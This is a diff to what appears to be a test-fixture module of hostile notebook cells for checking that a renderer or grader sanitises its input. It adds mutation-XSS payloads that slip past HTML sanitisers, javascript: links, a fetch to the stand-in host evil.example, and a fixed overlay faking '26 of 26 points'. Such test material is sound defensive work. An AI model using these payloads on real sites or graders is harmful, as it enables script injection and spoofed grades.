@@ -1,9 +1,30 @@
 """Cells that try to run a script, ask another host or draw over a grade where they are shown."""
 
+from html import escape
+
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
 
 RUN = "window.hacked = 1; document.title = 'hacked'; fetch('https://evil.example/x')"
 OVERLAY = "position: fixed; top: 0; left: 0; width: 100%; height: 9rem; z-index: 9"
+BAD = f'<img src=x onerror="{RUN}">'
+# These are harmless as they are first read, and were not when written out and read again: markup
+# changes its meaning where it goes from HTML into formulas and back (DOMPurify's and ammonia's
+# advisories).
+MUTATING = [
+    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{escape(BAD)}">',
+    f"<math><mtext><table><mglyph><style><math>{BAD}</style></mglyph></table></mtext></math>",
+    f"<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea>{BAD}'>",
+    f"<svg></p><style><a id='</style>{BAD}'>",
+    f"<math><annotation-xml encoding='text/html'><style>{BAD}</style></annotation-xml></math>",
+    f"<math><mi><mglyph><style><!--</style>{BAD}--></mglyph></mi></math>",
+    "<b><math><mtext><option><f><option></option><mglyph><svg><mtext><style>"
+    f"<a title='</style>{BAD}'>",
+    f"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style>{BAD}'></h1>",
+    f"<math><mo><table><mtext><mi><malignmark><!--</mi>{BAD}--></math>",
+    f'<math href="javascript:{RUN}">c</math><math><mi xlink:href="javascript:{RUN}">x',
+    f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">a prize</maction>',
+    f"<math><mtext style='{OVERLAY}'>26 of 26 points</mtext><mspace width='9999px'></mspace>",
+]
 HTML = [
     f"<script>{RUN}</script>",
     f'<img src="x" onerror="{RUN}">',
@@ -30,11 +51,13 @@ HTML = [
     f'<details open ontoggle="{RUN}"><summary>more</summary></details>',
     f'<input autofocus onfocus="{RUN}">',
     f"<b id='submission_id' name='getElementById' onclick=\"{RUN}\">x</b>",
+    *MUTATING,
 ]
 MARKDOWN = [
     f"[a link](javascript:{RUN.replace(' ', '')})",
     "![a picture](https://evil.example/m.png)",
     '![$x$" onerror="window.hacked=1](data:image/png;base64,AAAA)',
+    rf"$\text{{{BAD}}}$ and $\mathrm{{</math>{BAD}}}$",
     r"$\href{javascript:window.hacked=1}{x}$ and $\style{position:fixed}{y}$",
     '```mermaid\ngraph TD; A-->B; click A href "javascript:window.hacked=1"\n```',
     "### BEGIN MARK SCHEME\nno end of it",
